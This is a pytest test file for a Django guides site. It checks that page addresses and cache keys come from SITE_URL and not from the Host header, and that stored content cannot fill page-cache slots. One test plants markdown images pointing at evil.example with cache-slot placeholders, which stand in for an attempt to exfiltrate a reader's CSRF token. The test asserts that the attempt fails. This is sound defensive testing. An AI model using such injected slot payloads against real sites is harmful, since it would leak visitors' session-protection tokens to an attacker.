"""Absolute addresses and cache keys come from SITE_URL, never from the Host header a
client chose; and nothing an author or a reader writes can become a page-cache slot."""

import re

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.test import Client
from django.test.signals import template_rendered

from guides_site.guides import page_cache
from guides_site.questions.models import Question
from guides_site.settings import env_origin

from .factories import make_guide

pytestmark = pytest.mark.django_db

GUIDE = "/acme/refund/"
HOST_VARIANTS = ["localhost", "LocalHost", "localhost.", "127.0.0.1:1", "127.0.0.1:65535"]


@pytest.fixture
def guide_renders():
    """How many times the guide page template was rendered whole."""
    rendered = []

    def record(sender, template, **kwargs):
        if template.name == "guides/guide.html":
            rendered.append(template.name)

    template_rendered.connect(record)
    yield rendered
    template_rendered.disconnect(record)


def test_host_variants_are_served_from_one_cached_page(settings, guide_renders):
    settings.ALLOWED_HOSTS = ["localhost", "127.0.0.1"]
    make_guide()
    pages = [Client(HTTP_HOST=host).get(GUIDE) for host in HOST_VARIANTS]

    assert [page.status_code for page in pages] == [200] * len(HOST_VARIANTS)
    assert len(guide_renders) == 1


def test_absolute_addresses_name_the_site_whatever_the_host(settings):
    settings.ALLOWED_HOSTS = ["localhost"]
    settings.SITE_URL = "https://guides.example"
    make_guide()
    html = Client(HTTP_HOST="LOCALHOST:8443").get(GUIDE).content.decode()
    assert '<link rel="canonical" href="https://guides.example/acme/refund/">' in html
    assert '"url": "https://guides.example/acme/refund/"' in html  # JSON-LD
    assert "localhost" not in html.lower()

    sitemap = Client(HTTP_HOST="localhost:1").get("/sitemap.xml").content.decode()
    locations = re.findall(r"<loc>([^<]+)</loc>", sitemap)
    assert locations and all(loc.startswith("https://guides.example/") for loc in locations)
    robots = Client(HTTP_HOST="localhost:2").get("/robots.txt").content.decode()
    assert "Sitemap: https://guides.example/sitemap.xml" in robots


@pytest.mark.parametrize(
    "raw, origin",
    [
        ("https://guides.example", "https://guides.example"),
        ("https://Guides.Example/", "https://guides.example"),
        ("http://127.0.0.1:8000", "http://127.0.0.1:8000"),
    ],
)
def test_site_url_is_read_as_an_origin(monkeypatch, raw, origin):
    monkeypatch.setenv("SITE_URL_FOR_TEST", raw)
    assert env_origin("SITE_URL_FOR_TEST", None) == origin


@pytest.mark.parametrize(
    "raw", ["guides.example", "ftp://guides.example", "https://guides.example/guides", "https://"]
)
def test_a_site_url_that_is_not_an_origin_fails_loudly(monkeypatch, raw):
    monkeypatch.setenv("SITE_URL_FOR_TEST", raw)
    with pytest.raises(ImproperlyConfigured, match="must be an origin"):
        env_origin("SITE_URL_FOR_TEST", None)


def test_site_url_is_required_in_production(monkeypatch):
    monkeypatch.delenv("SITE_URL_FOR_TEST", raising=False)
    with pytest.raises(ImproperlyConfigured, match="required when DJANGO_DEBUG is off"):
        env_origin("SITE_URL_FOR_TEST", None)


OLD_SLOTS = [
    "csrfslot0000000000000000000000000000000000000000000000000000000",
    "<!--slot:views-->",
    "<!--slot:vote-->",
]


def test_no_content_or_question_can_carry_a_reader_s_csrf_token_away(client):
    guide = make_guide()
    for step, slot in zip(guide.steps.all(), OLD_SLOTS, strict=True):
        step.body_md = f"![logo](https://evil.example/{slot}.png) and {slot} in the text"
        step.save()
    Question.objects.create(
        guide=guide, text=" ".join(OLD_SLOTS), answer=" ".join(OLD_SLOTS), status="published"
    )
    client.get(GUIDE)  # through the whole stack, which keeps the page
    for reader in (client, Client()):
        response = reader.get(GUIDE)
        html = response.content.decode()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
        assert "evil.example" in html
        evil = re.findall(r"https://evil\.example/[^\"' )]*", html)
        assert evil and not [url for url in evil if token in url]
        assert html.count(token) == html.count('name="csrfmiddlewaretoken"') + 1  # + hx-headers


def test_slots_depend_on_the_secret_key():
    assert page_cache.CSRF_SLOT not in OLD_SLOTS
    assert page_cache.CSRF_SLOT.startswith("csrfslot") and len(page_cache.CSRF_SLOT) == 64
    assert page_cache.VIEWS_SLOT not in OLD_SLOTS and page_cache.VOTE_SLOT not in OLD_SLOTS
